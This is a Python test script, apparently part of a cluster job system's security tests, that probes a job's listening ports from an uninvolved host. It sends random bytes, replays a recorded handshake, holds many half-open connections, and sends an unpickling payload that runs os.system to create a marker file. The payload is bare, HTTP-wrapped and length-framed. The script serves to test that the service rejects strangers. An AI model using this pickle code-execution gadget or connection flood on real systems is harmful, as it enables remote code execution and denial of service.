"""Attacks a job from a host that takes no part: `cluster_attacker.py seconds marker recorded pid@address...`

Looks for every port that the victims listen on (their /proc is shared here, a real attacker would scan), and
tries on each: random bytes, a pickle by HTTP PUT and bare, a replayed handshake, and connections that just
stay. Takes longer than `seconds` if not all of that was done by then. The last line of output counts what was
done; `marker` is what a successful pickle would create.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import random
import resource
import socket
import sys
import time
from collections import Counter
from collections.abc import Iterator

Endpoint = tuple[str, int]
HELD = 1500  # half-open connections at a time
PATIENCE = 60.0  # seconds for every attack to be tried once


class Exploit:
    """Runs a command when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self._marker}",)


def connect(endpoint: Endpoint) -> socket.socket:
    return socket.create_connection(endpoint, timeout=0.5)


def listening(pid: int, address: str) -> list[Endpoint]:
    """What listens on `address` in the network namespace of a process, the oldest first."""
    with contextlib.suppress(OSError), open(f"/proc/{pid}/net/tcp") as file:
        wanted = socket.inet_aton(address)[::-1].hex().upper()
        fields = sorted((line.split() for line in file.readlines()[1:]), key=lambda words: int(words[9]))
        ends = [words[1].split(":") for words in fields if words[3] == "0A"]
        return [(address, int(port, 16)) for host, port in ends if host == wanted and int(port, 16) != 22]
    return []


def say(endpoint: Endpoint, data: bytes, listen_first: bool) -> bytes:
    """Sends, and returns everything that comes back then."""
    answer = b""
    with connect(endpoint) as sock:
        if listen_first:
            sock.recv(4096)
        sock.sendall(data)
        # A door that is slammed answers with a reset.
        with contextlib.suppress(OSError):
            while piece := sock.recv(4096):
                answer += piece
    return answer


def attacks(marker: str, recorded: bytes) -> Iterator[tuple[str, bytes]]:
    exploit = pickle.dumps(Exploit(marker))
    head = f"PUT /global/0 HTTP/1.1\r\nHost: x\r\nContent-Length: {len(exploit)}\r\n\r\n".encode()
    while True:
        yield "random", random.randbytes(random.randrange(1, 5000))
        yield "http", head + exploit
        yield "pickle", exploit
        yield "framed", len(exploit).to_bytes(4, "big") + exploit
        yield "replay", recorded


def main() -> None:
    seconds, marker, recorded = float(sys.argv[1]), sys.argv[2], bytes.fromhex(sys.argv[3])
    victims = [(int(pid), address) for pid, address in (word.split("@") for word in sys.argv[4:])]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 4 * HELD)), hard))
    counts = Counter(ports=0, accepted=0)
    held: list[socket.socket] = []
    ports: set[Endpoint] = set()
    plan = attacks(marker, recorded)
    name, data = next(plan)
    begin = time.monotonic()
    while (now := time.monotonic()) < begin + seconds or (counts["replay"] == 0 and now < begin + PATIENCE):
        for endpoint in [end for pid, address in victims for end in listening(pid, address)]:
            ports.add(endpoint)
            for _ in range(100):
                sock = socket.socket()
                sock.setblocking(False)
                sock.connect_ex(endpoint)
                held.append(sock)
                counts["half-open"] += 1
            # Many doors are gone before the attack gets to them: it is then tried on the next.
            with contextlib.suppress(OSError):
                answer = say(endpoint, data, listen_first=name == "replay")
                counts[name] += 1
                # The challenge, and a refusal of zeros, is all that a stranger may hear.
                counts["accepted"] += bool(answer.startswith(b"HVDAUTH2") and any(answer[40:]))
                counts["accepted"] += bool(name == "replay" and any(answer))
                name, data = next(plan)
        while len(held) > HELD:
            held.pop(0).close()
    counts["ports"] = len(ports)
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
